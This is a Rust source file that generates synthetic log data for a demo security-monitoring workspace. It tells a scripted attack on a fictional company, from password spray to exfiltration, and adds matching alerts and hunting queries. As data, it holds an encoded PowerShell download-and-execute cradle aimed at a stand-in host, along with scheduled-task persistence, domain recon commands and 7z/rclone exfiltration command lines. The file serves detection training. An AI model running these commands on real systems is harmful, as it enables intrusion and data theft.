//! The attack story: password spray → account takeover → malware on the victim's workstation →
//! lateral movement to the file server → exfiltration. Fixed rows, the same for every seed.

use serde_json::json;

use super::org::{Org, SHAREPOINT, User};
use super::rows::{self, FileEvent, Logon, Place, Proc, SignIn};
use super::sentinel::{self, Alert, Incident, IncidentVersion, Product};
use super::{Gen, HOUR, MINUTE, Rng, SECOND, Tbl, dt, dy, int, long, s};

pub(super) const ATTACKER_IP: &str = "203.0.113.57";
pub(super) const C2_IP: &str = "203.0.113.88";
pub(super) const EXFIL_IP: &str = "203.0.113.201";
pub(super) const VICTIM: &str = "mbrown";
pub(super) const VICTIM_UPN: &str = "mbrown@contoso.com";
pub(super) const VICTIM_HOST: &str = "wks-014";
pub(super) const SERVER: &str = "srv-fs01";
pub(super) const DROPPED_BINARY: &str = "wuauhelper.exe";
pub(super) const INCIDENT_NUMBER: i32 = 1042;

const ATTACKER_UA: &str = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/118.0.0.0 Safari/537.36";
const ENCODED: &str = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA4ADgALwB1AHAAZABhAHQAZQAuAHAAcwAxACcAKQA=";
const DROP_DIR: &str = "C:\\ProgramData\\Microsoft\\WinUpdate";

/// Hours and minutes before now.
const fn ago(hours: i64, minutes: i64) -> i64 {
    hours * HOUR + minutes * MINUTE
}

const PHISH: i64 = ago(76, 0);
const SPRAY_1: i64 = ago(72, 0);
const SPRAY_2: i64 = ago(71, 0);
const TAKEOVER: i64 = ago(70, 30);
const MFA_REGISTERED: i64 = ago(70, 22);
const INBOX_RULE: i64 = ago(70, 10);
const INVOICE: i64 = ago(50, 0);
const MACRO: i64 = ago(49, 50);
const LATERAL: i64 = ago(47, 5);
const RDP: i64 = ago(46, 50);
const STAGING: i64 = ago(26, 10);
const EXFIL: i64 = ago(26, 0);
const MASS_DOWNLOAD: i64 = ago(25, 0);

pub(super) const DESCRIPTION: &str = r#"# The demo workspace's attack story

Contoso (contoso.com, 50 users, workstations `wks-001`…`wks-024`, servers `srv-dc01`, `srv-dc02`,
`srv-fs01`, `srv-app01`, `srv-sql01`, `srv-web01`) is attacked from `203.0.113.0/24`.
Times are before "now", the moment the workspace was generated.

| When (ago) | Stage | Where to look |
| --- | --- | --- |
| 76h | Phishing "password expires today" from `it-support@contoso-helpdesk.example` (203.0.113.57) to 12 users, delivered to 4 incl. `mbrown@contoso.com` | EmailEvents |
| 72h–70h30m | Password spray from **203.0.113.57** against 42 accounts (ResultType 50126, some 50053), then a successful sign-in as **mbrown@contoso.com** (Megan Brown) | SigninLogs |
| 70h22m–70h05m | The attacker registers an authenticator app for mbrown and creates an inbox rule hiding "security"/"password" mail | AuditLogs, OfficeActivity |
| 50h–49h20m | "Overdue remittance" mail from `accounts@fabrikam-billing.example` (203.0.113.88); the macro runs `powershell.exe -nop -w hidden -enc …` on **wks-014**, downloads from 203.0.113.88 and drops `C:\ProgramData\Microsoft\WinUpdate\wuauhelper.exe` (scheduled task, recon with whoami/net/nltest, beacons to 203.0.113.88:443) | DeviceProcessEvents, DeviceFileEvents, DeviceNetworkEvents |
| 47h05m–46h45m | Lateral movement from wks-014 (10.10.1.14) to **srv-fs01** (10.20.0.12) with mbrown's account: SMB (445) Network logon, binary copied over SMB, RDP (3389) RemoteInteractive logon; a failed logon on srv-dc01 | DeviceLogonEvents, DeviceNetworkEvents, DeviceFileEvents |
| 26h10m–25h20m | Finance share archived with 7z and sent with rclone from srv-fs01 to **203.0.113.201:443**, ~2.4 GB | DeviceProcessEvents, DeviceNetworkEvents, CommonSecurityLog |
| 25h–24h40m | 160 files downloaded from the Finance SharePoint site as mbrown from 203.0.113.57 | OfficeActivity |

Seven alerts (SecurityAlert) tell the stages; incident **1042** (SecurityIncident, severity High,
status Active, six versions as alerts join it) groups them. Other incidents are benign or false
positives, several with more than one version: use `arg_max(TimeGenerated, *) by IncidentNumber`.

```kql
SigninLogs | where ResultType in ("50126", "50053") | summarize Failures = count(), Users = dcount(UserPrincipalName) by IPAddress | top 5 by Users
SigninLogs | where IPAddress == "203.0.113.57" and ResultType == "0"
DeviceProcessEvents | where ProcessCommandLine has "-enc" | project TimeGenerated, DeviceName, AccountName, ProcessCommandLine
DeviceFileEvents | where FolderPath startswith @"C:\ProgramData" and FileName endswith ".exe" | project TimeGenerated, DeviceName, FolderPath, SHA256, RequestSourceIP
DeviceLogonEvents | where LogonType == "RemoteInteractive" | summarize Logons = count() by AccountName, DeviceName, RemoteDeviceName | sort by Logons asc
CommonSecurityLog | summarize SentBytes = sum(SentBytes) by DestinationIP | top 5 by SentBytes
OfficeActivity | where Operation == "FileDownloaded" | summarize Files = count() by UserId, ClientIP | top 5 by Files
SecurityIncident | summarize arg_max(TimeGenerated, *) by IncidentNumber | where Severity == "High"
```
"#;

/// One version of the story's incident: alerts so far, title, severity, status, owner, comments.
type StoryVersion<'a> = (
    usize,
    &'a str,
    &'a str,
    &'a str,
    Option<&'a User>,
    &'a [(&'a str, i64)],
);

/// Writes the story's rows; returns the SystemAlertIds of its alerts in stage order.
pub(super) fn write(g: &mut Gen, org: &Org) -> Vec<String> {
    let mut rng = Rng::new(0x5707_2026);
    let victim = org.user(VICTIM);
    let wks = org.device(VICTIM_HOST);
    let fs = org.device(SERVER);
    let now = g.now;
    let at = |ago: i64| now - ago;

    // Stage 0: phishing for credentials.
    let phish_targets: Vec<usize> = (4..50).step_by(4).take(11).chain([13]).collect();
    let cluster = 7_204_311_i64;
    for (k, &i) in phish_targets.iter().enumerate() {
        let u = &org.users[i];
        let delivered = i == 13 || k % 4 == 0;
        let report = format!("{}-{k}", rng.guid_string());
        g.push(
            Tbl::Email,
            [
                ("Timestamp", dt(at(PHISH) + k as i64 * 7 * SECOND)),
                ("NetworkMessageId", s(rng.guid_string())),
                ("InternetMessageId", s(format!("<{}@contoso-helpdesk.example>", rng.hex(16)))),
                ("SenderMailFromAddress", s("it-support@contoso-helpdesk.example")),
                ("SenderFromAddress", s("it-support@contoso-helpdesk.example")),
                ("SenderDisplayName", s("Contoso IT Support")),
                ("SenderMailFromDomain", s("contoso-helpdesk.example")),
                ("SenderFromDomain", s("contoso-helpdesk.example")),
                ("SenderIPv4", s(ATTACKER_IP)),
                ("RecipientEmailAddress", s(&u.upn)),
                ("RecipientObjectId", s(&u.object_id)),
                ("Subject", s("Action required: your Contoso password expires today")),
                ("EmailClusterId", long(cluster)),
                ("EmailDirection", s("Inbound")),
                ("DeliveryAction", s(if delivered { "Delivered" } else { "Junked" })),
                ("DeliveryLocation", s(if delivered { "Inbox/folder" } else { "Junk folder" })),
                ("ThreatTypes", s(if delivered { "" } else { "Phish" })),
                ("DetectionMethods", s(if delivered { "" } else { "{\"Phish\":[\"URL detonation reputation\"]}" })),
                ("ConfidenceLevel", s(if delivered { "" } else { "{\"Phish\":\"Normal\"}" })),
                ("BulkComplaintLevel", int(0)),
                ("AttachmentCount", int(0)),
                ("UrlCount", int(1)),
                ("AuthenticationDetails", s("{\"SPF\":\"pass\",\"DKIM\":\"none\",\"DMARC\":\"none\",\"CompAuth\":\"fail\"}")),
                ("ReportId", s(report)),
            ],
        );
    }

    // Stage 1: password spray, two rounds over 42 accounts, then the victim's password works.
    let attacker = || Place {
        ip: ATTACKER_IP,
        city: "Amsterdam",
        state: "Noord-Holland",
        country: "NL",
        lat: 52.3676,
        lon: 4.9041,
        asn: 64_500,
    };
    let sprayed: Vec<usize> = (2..50).filter(|i| i % 8 != 7).take(42).collect();
    for (round, start) in [(0, SPRAY_1), (1, SPRAY_2)] {
        for (k, &i) in sprayed.iter().enumerate() {
            let u = &org.users[i];
            if round == 1 && u.sam == VICTIM {
                continue;
            }
            let locked = round == 1 && k % 9 == 4;
            let time = at(start) + k as i64 * 60 * SECOND + rng.range(0, 20) * SECOND;
            rows::signin(
                g,
                &mut rng,
                SignIn {
                    time,
                    user: u,
                    place: attacker(),
                    app: rows::APPS[0],
                    result: if locked { "50053" } else { "50126" },
                    client_app: "Browser",
                    user_agent: ATTACKER_UA,
                    risk: "none",
                    mfa: false,
                    device: None,
                },
            );
        }
    }
    for (time, app) in [
        (at(TAKEOVER), rows::APPS[0]),
        (at(ago(70, 25)), rows::APPS[6]),
    ] {
        rows::signin(
            g,
            &mut rng,
            SignIn {
                time,
                user: victim,
                place: attacker(),
                app,
                result: "0",
                client_app: "Browser",
                user_agent: ATTACKER_UA,
                risk: "medium",
                mfa: false,
                device: None,
            },
        );
    }

    // Stage 2: persistence in the cloud: an MFA method and an inbox rule.
    let actor = json!({"user": {"id": victim.object_id, "displayName": null,
                                "userPrincipalName": victim.upn, "ipAddress": ATTACKER_IP}});
    let target = |props: serde_json::Value| {
        json!([{"id": victim.object_id, "displayName": null, "type": "User",
                "userPrincipalName": victim.upn, "modifiedProperties": props}])
    };
    for (ago_t, op, category, service, details, props) in [
        (
            MFA_REGISTERED,
            "User registered security info",
            "UserManagement",
            "Authentication Methods",
            json!([{"key": "Method", "value": "Authenticator App"}]),
            json!([]),
        ),
        (
            ago(70, 21),
            "Update user",
            "UserManagement",
            "Core Directory",
            json!([{"key": "UserType", "value": "Member"}]),
            json!([{"displayName": "StrongAuthenticationPhoneAppDetail", "oldValue": "[]",
                    "newValue": "[{\"DeviceName\":\"Pixel 7\",\"DeviceTag\":\"SoftwareTokenActivated\"}]"}]),
        ),
    ] {
        g.push(
            Tbl::Audit,
            [
                ("SourceSystem", s("Azure AD")),
                ("TimeGenerated", dt(at(ago_t))),
                ("OperationName", s(op)),
                ("OperationVersion", s("1.0")),
                ("Category", s(category)),
                ("ResultType", s("")),
                ("ResultSignature", s("None")),
                ("DurationMs", long(0)),
                ("CorrelationId", s(rng.guid_string())),
                ("Identity", s(&victim.display_name)),
                ("Level", s("4")),
                ("AdditionalDetails", dy(details)),
                ("Id", s(format!("Directory_{}", rng.hex(12)))),
                ("InitiatedBy", dy(actor.clone())),
                ("LoggedByService", s(service)),
                ("Result", s("success")),
                (
                    "ResultReason",
                    s("User registered Authenticator App with Notification and Code"),
                ),
                ("TargetResources", dy(target(props))),
                ("AADTenantId", s(super::org::TENANT_ID)),
                ("ActivityDisplayName", s(op)),
                ("ActivityDateTime", dt(at(ago_t))),
                (
                    "AADOperationType",
                    s(if op == "Update user" { "Update" } else { "Add" }),
                ),
            ],
        );
    }
    let rule = json!([{"Name": "Name", "Value": "."},
                      {"Name": "SubjectOrBodyContainsWords", "Value": "security;password;phish;invoice"},
                      {"Name": "MoveToFolder", "Value": "RSS Feeds"},
                      {"Name": "MarkAsRead", "Value": "True"},
                      {"Name": "StopProcessingRules", "Value": "True"}]);
    office(
        g,
        &mut rng,
        at(INBOX_RULE),
        victim,
        "New-InboxRule",
        "Exchange",
        "ExchangeAdmin",
        "",
        &rule.to_string(),
    );
    for k in 0..10 {
        office(
            g,
            &mut rng,
            at(ago(70, 5)) + k * 20 * SECOND,
            victim,
            "MailItemsAccessed",
            "Exchange",
            "ExchangeItemAggregated",
            "",
            "",
        );
    }

    // Stage 3: the invoice, the macro, encoded PowerShell and a dropped binary on wks-014.
    g.push(
        Tbl::Email,
        [
            ("Timestamp", dt(at(INVOICE))),
            ("NetworkMessageId", s(rng.guid_string())),
            (
                "InternetMessageId",
                s(format!("<{}@fabrikam-billing.example>", rng.hex(16))),
            ),
            (
                "SenderMailFromAddress",
                s("accounts@fabrikam-billing.example"),
            ),
            ("SenderFromAddress", s("accounts@fabrikam-billing.example")),
            ("SenderDisplayName", s("Fabrikam Accounts Receivable")),
            ("SenderMailFromDomain", s("fabrikam-billing.example")),
            ("SenderFromDomain", s("fabrikam-billing.example")),
            ("SenderIPv4", s(C2_IP)),
            ("RecipientEmailAddress", s(VICTIM_UPN)),
            ("RecipientObjectId", s(&victim.object_id)),
            ("Subject", s("RE: Overdue remittance - invoice 4471")),
            ("EmailClusterId", long(cluster + 1)),
            ("EmailDirection", s("Inbound")),
            ("DeliveryAction", s("Delivered")),
            ("DeliveryLocation", s("Inbox/folder")),
            ("BulkComplaintLevel", int(0)),
            ("AttachmentCount", int(1)),
            ("UrlCount", int(0)),
            (
                "AuthenticationDetails",
                s("{\"SPF\":\"pass\",\"DKIM\":\"pass\",\"DMARC\":\"pass\",\"CompAuth\":\"pass\"}"),
            ),
            ("ReportId", s(rng.guid_string())),
        ],
    );
    let explorer = Proc {
        file: "explorer.exe",
        folder: "c:\\windows\\explorer.exe",
        command_line: "C:\\WINDOWS\\Explorer.EXE",
        pid: 5120,
        parent: "userinit.exe",
        account: Some(victim),
    };
    let outlook = Proc {
        file: "OUTLOOK.EXE",
        folder: "c:\\program files\\microsoft office\\root\\office16\\outlook.exe",
        command_line: "\"OUTLOOK.EXE\" ",
        pid: 8812,
        parent: "explorer.exe",
        account: Some(victim),
    };
    let winword = Proc {
        file: "WINWORD.EXE",
        folder: "c:\\program files\\microsoft office\\root\\office16\\winword.exe",
        command_line: "\"WINWORD.EXE\" /n \"C:\\Users\\mbrown\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q7RZ1K2M\\Invoice_4471.docm\" /o \"\"",
        pid: 10_344,
        parent: "OUTLOOK.EXE",
        account: Some(victim),
    };
    let encoded = format!("powershell.exe -nop -w hidden -enc {ENCODED}");
    let powershell = Proc {
        file: "powershell.exe",
        folder: "c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe",
        command_line: &encoded,
        pid: 11_208,
        parent: "WINWORD.EXE",
        account: Some(victim),
    };
    let dropped_cmd = format!("\"{DROP_DIR}\\{DROPPED_BINARY}\" /svc");
    let implant = Proc {
        file: DROPPED_BINARY,
        folder: "c:\\programdata\\microsoft\\winupdate\\wuauhelper.exe",
        command_line: &dropped_cmd,
        pid: 11_876,
        parent: "powershell.exe",
        account: Some(victim),
    };
    rows::process_created(g, wks, at(MACRO) - 2 * MINUTE, &explorer, &outlook);
    rows::file_event(
        g,
        wks,
        &outlook,
        FileEvent {
            time: at(MACRO) - 30 * SECOND,
            action: "FileCreated",
            name: "Invoice_4471.docm",
            folder: "C:\\Users\\mbrown\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q7RZ1K2M",
            size: 48_213,
            origin_url: "",
            remote: None,
        },
    );
    rows::process_created(g, wks, at(MACRO), &outlook, &winword);
    rows::process_created(g, wks, at(MACRO) + MINUTE, &winword, &powershell);
    rows::connection(
        g,
        wks,
        at(MACRO) + MINUTE + 4 * SECOND,
        &powershell,
        "ConnectionSuccess",
        (C2_IP, 80, "http://203.0.113.88/update.ps1"),
        51_544,
    );
    rows::file_event(
        g,
        wks,
        &powershell,
        FileEvent {
            time: at(MACRO) + 2 * MINUTE,
            action: "FileCreated",
            name: DROPPED_BINARY,
            folder: DROP_DIR,
            size: 1_482_752,
            origin_url: "http://203.0.113.88/wuauhelper.bin",
            remote: None,
        },
    );
    rows::process_created(g, wks, at(MACRO) + 3 * MINUTE, &powershell, &implant);
    let schtasks_cmd = format!(
        "schtasks.exe /create /tn \"Microsoft\\Windows\\WinUpdateHelper\" /tr \"{DROP_DIR}\\{DROPPED_BINARY} /svc\" /sc onlogon /ru mbrown /f"
    );
    let recon: [(&str, &str, String); 5] = [
        (
            "schtasks.exe",
            "c:\\windows\\system32\\schtasks.exe",
            schtasks_cmd,
        ),
        (
            "whoami.exe",
            "c:\\windows\\system32\\whoami.exe",
            "whoami.exe /all".into(),
        ),
        (
            "net.exe",
            "c:\\windows\\system32\\net.exe",
            "net.exe group \"Domain Admins\" /domain".into(),
        ),
        (
            "nltest.exe",
            "c:\\windows\\system32\\nltest.exe",
            "nltest.exe /dclist:contoso.com".into(),
        ),
        (
            "net.exe",
            "c:\\windows\\system32\\net.exe",
            "net.exe view \\\\srv-fs01.contoso.com".into(),
        ),
    ];
    for (k, (file, folder, cmd)) in recon.iter().enumerate() {
        let child = Proc {
            file,
            folder,
            command_line: cmd,
            pid: 12_000 + k as i64 * 44,
            parent: DROPPED_BINARY,
            account: Some(victim),
        };
        rows::process_created(
            g,
            wks,
            at(MACRO) + (4 + 6 * k as i64) * MINUTE,
            &implant,
            &child,
        );
    }
    let mut beacon = at(MACRO) + 5 * MINUTE;
    while beacon < at(LATERAL) {
        rows::connection(
            g,
            wks,
            beacon,
            &implant,
            "ConnectionSuccess",
            (C2_IP, 443, "cdn-update.example"),
            rng.range(50_000, 60_000) as i32,
        );
        beacon += 10 * MINUTE + rng.range(0, 60) * SECOND;
    }

    // Stage 4: lateral movement to srv-fs01 with the victim's account.
    let system = rows::SYSTEM;
    rows::connection(
        g,
        wks,
        at(LATERAL) - 10 * SECOND,
        &implant,
        "ConnectionSuccess",
        (&fs.ip, 445, ""),
        52_101,
    );
    rows::logon(
        g,
        fs,
        Logon {
            time: at(LATERAL),
            user: Some(victim),
            logon_type: "Network",
            success: true,
            protocol: "NTLM",
            remote: Some(wks),
        },
    );
    rows::file_event(
        g,
        fs,
        &Proc {
            file: "System",
            folder: "",
            command_line: "",
            pid: 4,
            parent: "",
            account: None,
        },
        FileEvent {
            time: at(LATERAL) + 30 * SECOND,
            action: "FileCreated",
            name: DROPPED_BINARY,
            folder: DROP_DIR,
            size: 1_482_752,
            origin_url: "",
            remote: Some((victim, &wks.ip)),
        },
    );
    let dc = org.device("srv-dc01");
    rows::logon(
        g,
        dc,
        Logon {
            time: at(ago(47, 0)),
            user: Some(victim),
            logon_type: "Network",
            success: false,
            protocol: "NTLM",
            remote: Some(wks),
        },
    );
    let mstsc = Proc {
        file: "mstsc.exe",
        folder: "c:\\windows\\system32\\mstsc.exe",
        command_line: "mstsc.exe /v:srv-fs01.contoso.com",
        pid: 13_420,
        parent: DROPPED_BINARY,
        account: Some(victim),
    };
    rows::process_created(g, wks, at(RDP) - 20 * SECOND, &implant, &mstsc);
    rows::connection(
        g,
        wks,
        at(RDP) - 15 * SECOND,
        &mstsc,
        "ConnectionSuccess",
        (&fs.ip, 3389, ""),
        52_377,
    );
    let svchost = Proc {
        file: "svchost.exe",
        folder: "c:\\windows\\system32\\svchost.exe",
        command_line: "svchost.exe -k termsvcs -s TermService",
        pid: 1_304,
        parent: "services.exe",
        account: None,
    };
    rows::connection(
        g,
        fs,
        at(RDP) - 14 * SECOND,
        &svchost,
        "InboundConnectionAccepted",
        (&wks.ip, 52_377, ""),
        3389,
    );
    rows::logon(
        g,
        fs,
        Logon {
            time: at(RDP),
            user: Some(victim),
            logon_type: "RemoteInteractive",
            success: true,
            protocol: "Negotiate",
            remote: Some(wks),
        },
    );
    let fs_explorer = Proc {
        pid: 7_716,
        ..explorer
    };
    let fs_implant = Proc {
        pid: 8_020,
        parent: "explorer.exe",
        ..implant
    };
    rows::process_created(g, fs, at(ago(46, 45)), &fs_explorer, &fs_implant);
    rows::process_created(
        g,
        fs,
        at(ago(46, 40)),
        &system,
        &Proc {
            file: "svchost.exe",
            ..svchost
        },
    );

    // Stage 5: exfiltration from srv-fs01 and from SharePoint.
    let seven_cmd = "7z.exe a -pInv0ice4471 -mhe=on C:\\ProgramData\\Microsoft\\WinUpdate\\fin.7z D:\\Shares\\Finance\\*";
    let seven = Proc {
        file: "7z.exe",
        folder: "c:\\program files\\7-zip\\7z.exe",
        command_line: seven_cmd,
        pid: 9_100,
        parent: DROPPED_BINARY,
        account: Some(victim),
    };
    rows::process_created(g, fs, at(STAGING), &fs_implant, &seven);
    rows::file_event(
        g,
        fs,
        &seven,
        FileEvent {
            time: at(ago(26, 3)),
            action: "FileCreated",
            name: "fin.7z",
            folder: DROP_DIR,
            size: 2_415_919_104,
            origin_url: "",
            remote: None,
        },
    );
    let rclone_cmd = "rclone.exe copy C:\\ProgramData\\Microsoft\\WinUpdate\\fin.7z s3:backup-2026 --transfers 8 --no-check-certificate";
    let rclone = Proc {
        file: "rclone.exe",
        folder: "c:\\programdata\\microsoft\\winupdate\\rclone.exe",
        command_line: rclone_cmd,
        pid: 9_388,
        parent: DROPPED_BINARY,
        account: Some(victim),
    };
    rows::process_created(g, fs, at(EXFIL), &fs_implant, &rclone);
    for k in 0..8 {
        let start = at(EXFIL) + 10 * SECOND + k * 5 * MINUTE;
        let port = 53_000 + k as i32;
        rows::connection(
            g,
            fs,
            start,
            &rclone,
            "ConnectionSuccess",
            (EXFIL_IP, 443, "s3.storage-sync.example"),
            port,
        );
        let sent = 301_989_888 + rng.range(0, 1_000_000);
        g.push(
            Tbl::Firewall,
            rows::firewall_row(
                start + 5 * MINUTE,
                (&fs.ip, port),
                (EXFIL_IP, 443),
                "ssl",
                (sent, rng.range(200_000, 400_000)),
                "contoso\\mbrown",
            ),
        );
    }
    for k in 0..160 {
        let name = format!(
            "{}-{:03}.xlsx",
            ["Payroll", "Forecast", "Vendors", "Budget"][k % 4],
            k
        );
        office(
            g,
            &mut rng,
            at(MASS_DOWNLOAD) + k as i64 * 7 * SECOND,
            victim,
            "FileDownloaded",
            "SharePoint",
            "SharePointFileOperation",
            &name,
            "",
        );
    }

    // The alerts and the incident that groups them.
    let account = sentinel::account(victim);
    let mut alerts = Vec::new();
    let specs = [
        Alert {
            name: "Password Spray",
            severity: "Medium",
            product: Product::IdentityProtection,
            description: "Multiple usernames were attacked with common passwords from one IP address, and one sign-in succeeded.",
            tactics: "CredentialAccess",
            techniques: &["T1110"],
            compromised: VICTIM_UPN,
            entities: vec![account.clone(), sentinel::ip(ATTACKER_IP)],
            start: at(SPRAY_1),
            end: at(TAKEOVER),
        },
        Alert {
            name: "Unfamiliar sign-in properties",
            severity: "Medium",
            product: Product::IdentityProtection,
            description: "The sign-in had properties not seen recently for this user: IP address, location and browser.",
            tactics: "InitialAccess",
            techniques: &["T1078"],
            compromised: VICTIM_UPN,
            entities: vec![account.clone(), sentinel::ip(ATTACKER_IP)],
            start: at(TAKEOVER),
            end: at(TAKEOVER),
        },
        Alert {
            name: "Suspicious inbox manipulation rule",
            severity: "Medium",
            product: Product::CloudApps,
            description: "A rule that moves and marks as read messages about security and passwords was set on the user's inbox.",
            tactics: "Persistence, DefenseEvasion",
            techniques: &["T1564", "T1114"],
            compromised: VICTIM_UPN,
            entities: vec![
                account.clone(),
                sentinel::mailbox(victim),
                sentinel::ip(ATTACKER_IP),
            ],
            start: at(INBOX_RULE),
            end: at(INBOX_RULE),
        },
        Alert {
            name: "Suspicious PowerShell command line",
            severity: "High",
            product: Product::Endpoint,
            description: "A Word document started PowerShell with an encoded command that downloaded and ran a payload.",
            tactics: "Execution",
            techniques: &["T1059.001", "T1204.002"],
            compromised: "wks-014.contoso.com",
            entities: vec![
                sentinel::host(wks),
                account.clone(),
                sentinel::process(&encoded, 11_208),
                sentinel::file(
                    DROPPED_BINARY,
                    DROP_DIR,
                    &super::file_hashes(DROPPED_BINARY).1,
                ),
                sentinel::ip(C2_IP),
            ],
            start: at(MACRO) + MINUTE,
            end: at(MACRO) + 3 * MINUTE,
        },
        Alert {
            name: "Suspicious lateral movement activity",
            severity: "High",
            product: Product::Endpoint,
            description: "A user account signed in to a server over SMB and RDP from a compromised device and copied an executable to it.",
            tactics: "LateralMovement",
            techniques: &["T1021.001", "T1021.002", "T1570"],
            compromised: "srv-fs01.contoso.com",
            entities: vec![sentinel::host(wks), sentinel::host(fs), account.clone()],
            start: at(LATERAL),
            end: at(RDP),
        },
        Alert {
            name: "Large outbound transfer to rare external IP",
            severity: "High",
            product: Product::Scheduled,
            description: "A host sent more than 1 GB to an external IP address no other host talked to in the last 14 days.",
            tactics: "Exfiltration",
            techniques: &["T1048", "T1567.002"],
            compromised: "srv-fs01.contoso.com",
            entities: vec![sentinel::host(fs), sentinel::ip(EXFIL_IP), account.clone()],
            start: at(EXFIL),
            end: at(EXFIL) + 40 * MINUTE,
        },
        Alert {
            name: "Mass download by a single user",
            severity: "Medium",
            product: Product::CloudApps,
            description: "A user downloaded an unusually large number of files from SharePoint in a short time.",
            tactics: "Exfiltration",
            techniques: &["T1530"],
            compromised: VICTIM_UPN,
            entities: vec![account, sentinel::ip(ATTACKER_IP)],
            start: at(MASS_DOWNLOAD),
            end: at(MASS_DOWNLOAD) + 19 * MINUTE,
        },
    ];
    let mut alert_times = Vec::new();
    for spec in specs {
        alert_times.push(spec.end + 6 * MINUTE);
        alerts.push(sentinel::write_alert(g, &mut rng, spec));
    }

    let analyst = org.user("jlee");
    let name = rng.guid_string();
    let incident = Incident {
        number: INCIDENT_NUMBER,
        name: &name,
        description: "Password spray, account takeover, malware, lateral movement and exfiltration involving mbrown@contoso.com.",
        created: alert_times[0],
        tactics: &[
            "CredentialAccess",
            "InitialAccess",
            "Persistence",
            "Execution",
            "LateralMovement",
            "Exfiltration",
        ],
        products: &[
            "Azure Active Directory Identity Protection",
            "Microsoft Cloud App Security",
            "Microsoft Defender Advanced Threat Protection",
            "Azure Sentinel",
        ],
        labels: &["Multi-stage"],
    };
    let first_title = "Password Spray involving one user";
    let full_title = "Multi-stage incident involving Initial access & Lateral movement & Exfiltration on multiple endpoints reported by multiple sources";
    let comment_1 = [(
        "Assigned to Tier 2. Password reset and sessions revoked for mbrown.",
        alert_times[3] + 20 * MINUTE,
    )];
    let comment_2 = [
        comment_1[0],
        (
            "srv-fs01 and wks-014 isolated; 203.0.113.0/24 blocked at the firewall.",
            alert_times[6] + 30 * MINUTE,
        ),
    ];
    // (alerts so far, title, severity, status, owner, comments)
    let versions: [StoryVersion<'_>; 6] = [
        (2, first_title, "Medium", "New", None, &[]),
        (3, first_title, "Medium", "New", None, &[]),
        (4, full_title, "High", "Active", Some(analyst), &[]),
        (5, full_title, "High", "Active", Some(analyst), &comment_1),
        (6, full_title, "High", "Active", Some(analyst), &comment_1),
        (7, full_title, "High", "Active", Some(analyst), &comment_2),
    ];
    for (n, title, severity, status, owner, comments) in versions {
        let modified = comments.last().map_or(alert_times[n - 1] + MINUTE, |c| {
            c.1.max(alert_times[n - 1] + MINUTE)
        });
        sentinel::write_incident_version(
            g,
            &incident,
            IncidentVersion {
                modified: modified.min(now),
                title,
                severity,
                status,
                classification: None,
                owner,
                alert_ids: &alerts[..n],
                comments,
                first_activity: at(SPRAY_1),
                last_activity: alert_times[n - 1] - 6 * MINUTE,
            },
        );
    }
    alerts
}

/// One OfficeActivity row by `user` from the attacker's address.
#[allow(clippy::too_many_arguments)]
fn office(
    g: &mut Gen,
    rng: &mut Rng,
    time: i64,
    user: &User,
    operation: &str,
    workload: &str,
    record_type: &str,
    file: &str,
    parameters: &str,
) {
    let site = format!("{SHAREPOINT}/sites/Finance/");
    let sharepoint = workload == "SharePoint";
    g.push(
        Tbl::Office,
        [
            ("TimeGenerated", dt(time)),
            ("RecordType", s(record_type)),
            ("Operation", s(operation)),
            ("OrganizationId", s(super::org::TENANT_ID)),
            ("UserType", s("Regular")),
            ("UserKey", s(&user.object_id)),
            ("OfficeWorkload", s(workload)),
            ("ResultStatus", s(if sharepoint { "" } else { "True" })),
            (
                "OfficeObjectId",
                s(if sharepoint {
                    format!("{site}Shared Documents/{file}")
                } else {
                    user.upn.clone()
                }),
            ),
            ("UserId", s(&user.upn)),
            (
                "ClientIP",
                s(if sharepoint {
                    ATTACKER_IP.to_string()
                } else {
                    format!("{ATTACKER_IP}:{}", rng.range(40_000, 60_000))
                }),
            ),
            ("UserAgent", s(ATTACKER_UA)),
            ("Site_Url", s(if sharepoint { site.as_str() } else { "" })),
            (
                "SourceRelativeUrl",
                s(if sharepoint { "Shared Documents" } else { "" }),
            ),
            ("SourceFileName", s(file)),
            (
                "SourceFileExtension",
                s(file.rsplit_once('.').map_or("", |(_, e)| e)),
            ),
            ("ItemType", s(if sharepoint { "File" } else { "" })),
            ("EventSource", s(if sharepoint { "SharePoint" } else { "" })),
            ("Parameters", s(parameters)),
            (
                "MailboxOwnerUPN",
                s(if sharepoint { "" } else { user.upn.as_str() }),
            ),
            ("ExternalAccess", s("false")),
            ("OfficeId", s(rng.guid_string())),
            ("SourceSystem", s("OfficeActivityManager")),
        ],
    );
}

/// The story's SystemAlertIds (they depend on nothing but the story's fixed seed).
#[cfg(test)]
pub(super) fn alert_ids() -> Vec<String> {
    write(&mut Gen::new(0), &Org::new())
}
